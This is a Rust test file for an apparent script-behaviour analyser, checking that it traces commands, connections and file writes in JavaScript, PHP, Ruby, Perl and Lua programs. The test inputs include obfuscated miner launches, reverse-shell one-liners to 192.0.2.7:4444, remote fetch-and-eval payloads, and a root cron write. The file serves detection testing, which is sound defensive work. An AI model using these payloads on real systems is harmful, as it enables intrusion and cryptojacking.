//! JavaScript, PHP, Ruby, Perl and Lua.

use super::*;

fn check_each(interpreter: &str, file: &str, cases: &[(&str, &str)]) {
    let mut wrong = Vec::new();
    for (program, expected) in cases {
        let path = Fixture::new()
            .file("app/config.json", r#"{"upstream": {"h": "pool.example.test", "p": 13094}}"#, 0o644)
            .file(file, program, 0o644)
            .start(&[interpreter, &format!("/{file}")], &[])
            .follow();
        let got: Vec<String> = lines(&path).into_iter().skip(1).collect();
        let got = got.join("\n");
        let expected: Vec<&str> = expected.lines().map(str::trim).filter(|l| !l.is_empty()).collect();
        if got != expected.join("\n") {
            wrong.push(format!("--- {program}\n  expected: {}\n  got:      {got}", expected.join("\n")));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

const SHELL: &str = "run /bin/sh -c [miner -o x]\nrun miner -o x";
const DIRECT: &str = "run miner -o x";
const REVERSE: &str = "net 192.0.2.7:4444\nrun /bin/sh -i <- /dev/tcp/192.0.2.7/4444";

#[test]
fn javascript_is_followed() {
    check_each(
        "node",
        "app/x.js",
        &[
            ("require('child_process').exec('miner -o x')", SHELL),
            ("const {exec} = require('child_process'); exec(`miner ${'-o'} x`)", SHELL),
            ("import { execSync as e } from 'node:child_process'; e('miner -o x')", SHELL),
            ("import * as cp from 'child_process'; cp.spawn('miner', ['-o', 'x'])", DIRECT),
            ("require('child_'+'process')['ex'+'ec']('miner -o x')", SHELL),
            ("process.mainModule.require('child_process').execSync('miner -o x')", SHELL),
            (
                "const cp = require('child_process'); const w = cp.spawn('miner', ['-o', 'x'], {detached: true}); w.unref()",
                DIRECT,
            ),
            (
                "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoIm1pbmVyIC1vIHgiKQ==','base64').toString())",
                "run node -e [require(\"child_process\").exec(\"miner -o x\")] <- base64\nrun /bin/sh -c [miner -o x]\nrun miner -o x",
            ),
            (
                "new Function(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoIm1pbmVyIC1vIHgiKQ=='))()",
                "run node -e [require(\"child_process\").exec(\"miner -o x\")] <- base64\nrun /bin/sh -c [miner -o x]\nrun miner -o x",
            ),
            (
                "const s = String.fromCharCode(109,105,110,101,114,32,45,111,32,120); require('child_process').exec(s)",
                SHELL,
            ),
            ("setTimeout(() => { require('child_process').exec('miner -o x') }, 1000)", SHELL),
            ("(async () => { const {exec} = require('child_process'); await exec('miner -o x'); })()", SHELL),
            (
                "const t = ['x','miner','-o']; function g(i) { return t[i]; } (function(a, n) { while (n--) a.push(a.shift()); })(t, 1); require('child_process').exec([g(0), g(1), g(2)].join(' '))",
                SHELL,
            ),
            (
                "const _0x=function(){const a=['7x','miner -o x','exec','child_process'];_0x=function(){return a;};return a;};(function(t,n){const a=t();while(!![]){try{const v=parseInt(a[0]);if(v===n)break;else a.push(a.shift());}catch(e){a.push(a.shift());}}})(_0x,7);require(_0x()[3])[_0x()[2]](_0x()[1])",
                SHELL,
            ),
            (
                "const o = '1|0|2'.split('|'); let i = 0, c; while (true) { switch (o[i++]) { case '0': c += ' -o x'; continue; case '1': c = 'miner'; continue; case '2': require('child_process').exec(c); continue; } break; }",
                SHELL,
            ),
            (
                "const {spawn} = require('child_process'); const c = require('./config.json').upstream; spawn('miner', ['-o', c.h + ':' + String(c.p)])",
                "run miner -o pool.example.test:13094",
            ),
            (
                "const net=require('net'),cp=require('child_process');const sh=cp.spawn('/bin/sh',['-i']);const c=new net.Socket();c.connect(4444,'192.0.2.7',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);});",
                "run /bin/sh -i\nnet 192.0.2.7:4444\nrun /bin/sh -i <- /dev/tcp/192.0.2.7/4444",
            ),
            (
                "require('http').get('http://192.0.2.5/i.js',r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>eval(b))})",
                "net 192.0.2.5 http://192.0.2.5/i.js\nrun node -e $response from http://192.0.2.5/i.js",
            ),
            (
                "fetch('http://192.0.2.5/i.js').then(r => r.text()).then(eval)",
                "net 192.0.2.5 http://192.0.2.5/i.js\nrun node -e $response_text from http://192.0.2.5/i.js",
            ),
            (
                "const fs = require('fs'); fs.writeFileSync('/etc/cron.d/x', '* * * * * root id\\n')",
                "write /etc/cron.d/x = * * * * * root id\nscheduled may run /bin/sh -c id\nscheduled may run id",
            ),
            (
                "require('http').createServer((q, r) => { require('child_process').exec('id') }).listen(80)",
                "may run /bin/sh -c id\nmay run id",
            ),
            ("require('express')().get('/', (q, r) => r.send('x'))", ""),
        ],
    );
}

#[test]
fn perl_is_followed() {
    check_each(
        "perl",
        "app/x.pl",
        &[
            ("system('miner -o x');", SHELL),
            ("my $p = 'miner'; system \"$p -o x\";", SHELL),
            ("exec 'miner', '-o', 'x';", DIRECT),
            ("my $o = `miner -o x`;", SHELL),
            ("qx(miner -o x);", SHELL),
            ("use MIME::Base64; system(decode_base64('bWluZXIgLW8geA=='));", SHELL),
            (
                "eval pack('H*', '73797374656d28276d696e6572202d6f207827293b');",
                "run perl -e [system('miner -o x');] <- pack\nrun /bin/sh -c [miner -o x]\nrun miner -o x",
            ),
            (
                "eval(unpack('u', \"6<WES=&5M*\\\"=M:6YE<B`M;R!X)RD[\"));",
                "run perl -e [system('miner -o x');] <- uu\nrun /bin/sh -c [miner -o x]\nrun miner -o x",
            ),
            ("my @l = (109,105,110,101,114,32,45,111,32,120); system(join('', map { chr } @l));", SHELL),
            ("system(scalar reverse 'x o- renim');", SHELL),
            ("open(F, '|miner -o x');", SHELL),
            ("open(my $f, '>', '/tmp/x') or die; print $f 'data'; close $f;", "write /tmp/x = data"),
            ("sub go { my ($a) = @_; system($a); } go('miner -o x');", SHELL),
            (
                "use Socket;$i=\"192.0.2.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};",
                "net 192.0.2.7:4444\nrun /bin/sh -c [/bin/sh -i] <- /dev/tcp/192.0.2.7/4444\nrun /bin/sh -i <- /dev/tcp/192.0.2.7/4444",
            ),
            (
                "use IO::Socket; my $s = IO::Socket::INET->new(PeerAddr => '192.0.2.7:4444'); while (<$s>) { system($_); }",
                "net 192.0.2.7:4444\nmay run /bin/sh -c $received <- /dev/tcp/192.0.2.7/4444 from tcp://192.0.2.7:4444",
            ),
            ("unlink '/var/log/x'; chmod 0755, '/tmp/y';", "delete /var/log/x\nchmod /tmp/y = 755"),
        ],
    );
}

#[test]
fn php_is_followed() {
    check_each(
        "php",
        "app/x.php",
        &[
            ("<?php system('miner -o x');", SHELL),
            ("<?php $f = 'sys'.'tem'; $f('miner -o x');", SHELL),
            ("<?php echo `miner -o x`;", SHELL),
            ("<?php $a = array('miner', '-o', 'x'); shell_exec(implode(' ', $a));", SHELL),
            (
                "<?php eval(gzinflate(base64_decode('K64sLknN1VDKzcxLLVLQzVeoUNK0BgA=')));",
                "run php -r [system(\"miner -o x\");] <- deflate <- base64\nrun /bin/sh -c [miner -o x]\nrun miner -o x",
            ),
            (
                "<?php eval(str_rot13('flfgrz(\"zvare -b k\");'));",
                "run php -r [system(\"miner -o x\");] <- rot13\nrun /bin/sh -c [miner -o x]\nrun miner -o x",
            ),
            ("<?php foreach (array('miner -o x') as $k => $c) { passthru($c); }", SHELL),
            (
                "<?php function go($c) { exec($c); } go(\"miner -o {$argc}x\");",
                "run /bin/sh -c [miner -o x]\nrun miner -o x",
            ),
            (
                "<?php $s=fsockopen('192.0.2.7',4444);$p=proc_open('/bin/sh -i',array(0=>$s,1=>$s,2=>$s),$pipes);",
                "net 192.0.2.7:4444\nrun /bin/sh -c [/bin/sh -i] <- /dev/tcp/192.0.2.7/4444\nrun /bin/sh -i <- /dev/tcp/192.0.2.7/4444",
            ),
            (
                "<?php file_put_contents('/tmp/x', file_get_contents('http://192.0.2.5/x')); chmod('/tmp/x', 0755); exec('/tmp/x');",
                "net 192.0.2.5 http://192.0.2.5/x\nwrite /tmp/x = $response\nchmod /tmp/x = 755\nrun /bin/sh -c /tmp/x from http://192.0.2.5/x\nrun /tmp/x from http://192.0.2.5/x",
            ),
            ("<html><?php echo htmlspecialchars($_GET['x']); ?></html>", ""),
        ],
    );
}

#[test]
fn ruby_is_followed() {
    check_each(
        "ruby",
        "app/x.rb",
        &[
            ("system('miner -o x')", SHELL),
            ("system 'miner', '-o', 'x'", DIRECT),
            ("p = 'miner'\nexec \"#{p} -o x\"", SHELL),
            ("`miner -o x`", SHELL),
            ("IO.popen('miner -o x') { |f| f.read }", SHELL),
            (
                "require 'base64'\neval(Base64.decode64('c3lzdGVtKCJtaW5lciAtbyB4Iik='))",
                "run ruby -e [system(\"miner -o x\")] <- base64\nrun /bin/sh -c [miner -o x]\nrun miner -o x",
            ),
            ("def go(c)\n  system(c)\nend\ngo('miner -o x')", SHELL),
            ("['miner -o x'].each { |c| system(c) }", SHELL),
            ("system([109,105,110,101,114,32,45,111,32,120].pack('C*'))", SHELL),
            ("Kernel.send('sys' + 'tem', 'miner -o x')", SHELL),
            (
                "require 'socket'\ns = TCPSocket.new('192.0.2.7', 4444)\n$stdin.reopen(s)\n$stdout.reopen(s)\nexec '/bin/sh', '-i'",
                REVERSE,
            ),
            (
                "require 'open-uri'\neval(URI.open('http://192.0.2.5/x').read)",
                "net 192.0.2.5 http://192.0.2.5/x\nrun ruby -e $response from http://192.0.2.5/x",
            ),
            (
                "File.write('/tmp/x', 'data')\nFile.open('/tmp/y', 'w') { |f| f.puts 'z' }",
                "write /tmp/x = data\nwrite /tmp/y = z",
            ),
        ],
    );
}

#[test]
fn lua_is_followed() {
    check_each(
        "lua",
        "app/x.lua",
        &[
            ("os.execute('miner -o x')", SHELL),
            ("local p = 'miner'\nio.popen(p .. ' -o x'):read('*a')", SHELL),
            ("load('os.execute(\"miner -o x\")')()", SHELL),
            ("os.execute(string.char(109,105,110,101,114,32,45,111,32,120))", SHELL),
            ("os.execute(('x o- renim'):reverse())", SHELL),
            ("local t = {'miner', '-o', 'x'}\nos.execute(table.concat(t, ' '))", SHELL),
            ("local function go(c) os.execute(c) end\ngo('miner -o x')", SHELL),
            ("local f = io.open('/tmp/x', 'w')\nf:write('data')\nf:close()", "write /tmp/x = data"),
            (
                "local h = require('socket')\nlocal c = h.tcp()\nc:connect('192.0.2.7', 4444)\nwhile true do\n  local r = c:receive()\n  os.execute(r)\nend",
                "net 192.0.2.7:4444\nrun /bin/sh -c $received <- /dev/tcp/192.0.2.7/4444 from tcp://192.0.2.7:4444",
            ),
        ],
    );
}

#[test]
fn one_liners_are_followed() {
    for argv in [
        &["perl", "-MIO::Socket", "-e", "system('id')"][..],
        &["perl", "-esystem('id')"],
        &["ruby", "-rsocket", "-e", "system('id')"],
        &["php", "-r", "system('id');"],
        &["lua", "-e", "os.execute('id')"],
        &["node", "-e", "require('child_process').exec('id')"],
        &["python3", "-c", "import os;os.system('id')"],
    ] {
        let path = Fixture::new().start(argv, &[]).follow();
        assert_eq!(lines(&path).last().map(String::as_str), Some("run id"), "{argv:?}");
    }
}

#[test]
fn scripts_of_a_package_are_followed() {
    let fixture = Fixture::new()
        .file("app/package.json", r#"{"scripts": {"prestart": "mkdir x", "start": "node server.js"}}"#, 0o644)
        .file("app/server.js", "require('child_process').exec('miner -o x')", 0o644);
    let path = fixture.start(&["npm", "--prefix", "/app", "start"], &[]).follow();
    let got = lines(&path);
    assert!(got.contains(&"run mkdir x".to_owned()), "{got:?}");
    assert_eq!(got.last().map(String::as_str), Some("run miner -o x"), "{got:?}");
}

#[test]
fn hostile_programs_end() {
    for (interpreter, programs) in [
        (
            "node",
            vec![
                "((((",
                "while(true){}",
                "x='a'.repeat(1e10)",
                "[].concat([].concat)",
                "class A extends A{}",
                "function f(){f();f()}f()",
                "`${`${`${",
                "eval('eval(x)')",
                "a=>b=>c=>",
                "new Function('return this')()",
                "switch(x){",
                "let a=[];a.push(a);a.join()",
                "/(a+)+$/.test('aaaa')",
                "'a'.replace(/(a*)*b/, x=>x)",
            ],
        ),
        (
            "php",
            vec![
                "<?php ((((",
                "<?php while(1){}",
                "<?php $a='a'; while(1) $a.=$a;",
                "<?php include __FILE__;",
                "<?php eval('eval($x);');",
                "<?php $$$$$a;",
                "<?php <<<X",
                "no php",
                "<?php function f(){f();}f();",
                "<?php str_repeat('a', 1e12);",
            ],
        ),
        (
            "perl",
            vec![
                "((((",
                "while(1){}",
                "$a='a' x 1e12",
                "eval 'eval $x'",
                "sub f{f()}f()",
                "s/a/b/e",
                "open(",
                "<<X",
                "@a=(@a,@a)",
                "tr/a-\u{10ffff}/b/",
                "%h=(1)",
                "$x=~tr/\\x00-\\xff//;",
            ],
        ),
        (
            "ruby",
            vec![
                "((((",
                "while true do end",
                "'a'*10**12",
                "def f;f;end;f",
                "eval('eval(x)')",
                "<<~X\n#{",
                "1.upto(10**12){}",
                "(1..10**12).each{}",
                "->(x){",
                "a=[];a<<a;a.join",
            ],
        ),
        (
            "lua",
            vec![
                "((((",
                "while true do end",
                "string.rep('a',10^12)",
                "local function f() f() end f()",
                "load('load(x)')()",
                "for i=1,10^12 do end",
                "for i=1,2,0 do end",
                "'\\999\\",
                "t={} t[1]=t",
            ],
        ),
    ] {
        for program in programs {
            let started = std::time::Instant::now();
            Fixture::new().file("app/x", program, 0o644).start(&[interpreter, "/app/x"], &[]).follow();
            assert!(started.elapsed().as_secs() < 5, "{interpreter}: {program}");
        }
    }
}

#[test]
fn what_is_cut_anywhere_never_panics() {
    let programs = [
        (
            "python3",
            "import os,base64\nclass A(B):\n  def __init__(self, *a, x=1):\n    self.a = f'{a!r:>3}' % {'b': [c for c in d if e]}\ntry:\n  exec(base64.b64decode('aWQ=')[::-1])\nexcept E as e:\n  pass",
        ),
        (
            "node",
            "const {a, b: [c], ...d} = require('./x'); class A extends B { m() { return `x${this.y}`.replace(/a/g, (z) => z[0]); } } for (const k of e ?? []) { switch (k) { case 1: break; } }",
        ),
        (
            "php",
            "<?php class A extends B { function c($d = array('e' => 1)) { foreach ($f as $g => $h) { return \"{$i['j']} $k\"; } } } (new A)->c()?->l; $m = <<<X\n$n\nX;",
        ),
        (
            "perl",
            "use strict; my %h = (a => [1, 2]); foreach my $k (keys %h) { print \"$h{$k}[0]\\n\" if $k =~ /^(a)/; } sub f { my ($x) = @_; return eval { $x->g(1) } || undef; }",
        ),
        (
            "ruby",
            "class A < B\n  def c(d = 1, *e, &f)\n    g.each { |h| puts \"#{h[1..-1]}\" if h&.i }\n  rescue => j\n    k ||= %w(a b)\n  end\nend\nA.new.c(&:l)",
        ),
        (
            "lua",
            "local t = {a = 1, [2] = 'b', function(...) return ... end}\nfor k, v in pairs(t) do if k ~= 1 then t.a = (v .. '\\065'):sub(1, -2) end end",
        ),
    ];
    for (interpreter, program) in programs {
        for end in (0..program.len()).filter(|n| program.is_char_boundary(*n)) {
            for text in [&program[..end], &program[end..]] {
                let path =
                    Fixture::new().file("app/x", text, 0o644).start(&[interpreter, "/app/x"], &[]).follow();
                let failed = path.gaps.iter().any(|g| g.detail.contains("failed"));
                assert!(!failed, "{interpreter}: {text}");
            }
        }
    }
}
